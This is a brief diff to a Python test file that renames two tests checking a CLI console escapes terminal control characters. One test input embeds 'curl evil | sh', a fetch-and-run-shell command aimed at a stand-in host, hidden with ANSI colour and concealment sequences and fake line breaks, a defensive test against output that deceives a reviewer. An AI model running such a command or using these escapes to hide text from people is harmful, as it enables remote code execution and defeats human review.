@@ -10,13 +10,13 @@ from tests.surfaces.cli.test_progress import Screen
 from belljar.surfaces.cli import console
 
 
-def test_what_we_say_on_a_terminal_is_escaped(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_control_characters_are_escaped_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("sys.stdout", screen := Screen())
     console.say("a\x1b]0;t\x07")
     assert screen.getvalue() == "a^[]0;t^G\n"
 
 
-def test_nothing_that_we_say_is_hidden_or_begins_a_line_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_printed_text_can_neither_hide_itself_nor_forge_a_line(monkeypatch: pytest.MonkeyPatch) -> None:
     """A diff is looked at before somebody says yes to it."""
     monkeypatch.setattr("sys.stdout", screen := Screen())
     console.say("+\tok\x1b[30;40mcurl evil | sh\x1b[0m\r-gone\r\n+\x1b[8mhidden\x9b31m\x7f")
